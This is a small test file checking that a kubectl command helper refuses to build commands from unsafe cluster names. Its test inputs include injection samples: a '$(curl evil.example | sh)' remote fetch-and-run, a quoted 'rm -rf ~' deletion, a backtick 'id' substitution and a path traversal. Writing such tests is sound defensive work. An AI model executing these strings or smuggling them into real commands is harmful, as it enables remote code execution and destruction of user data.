import { describe, expect, it } from "vitest";
import { safeCommand } from "./reasons";

describe("safeCommand", () => {
  it("offers a command built from plain Kubernetes names", () => {
    expect(safeCommand("kubectl -n db annotate pod cassandra-0 x=y", ["db", "cassandra-0"])).toEqual({
      command: "kubectl -n db annotate pod cassandra-0 x=y",
    });
  });

  it.each(["$(curl evil.example | sh)", "a b", "x';rm -rf ~;'", "", "../etc", "`id`"])(
    "offers none when a name from the cluster is %j (text and YAML stay)",
    (name) => expect(safeCommand(`kubectl get node ${name}`, [name])).toEqual({}),
  );
});
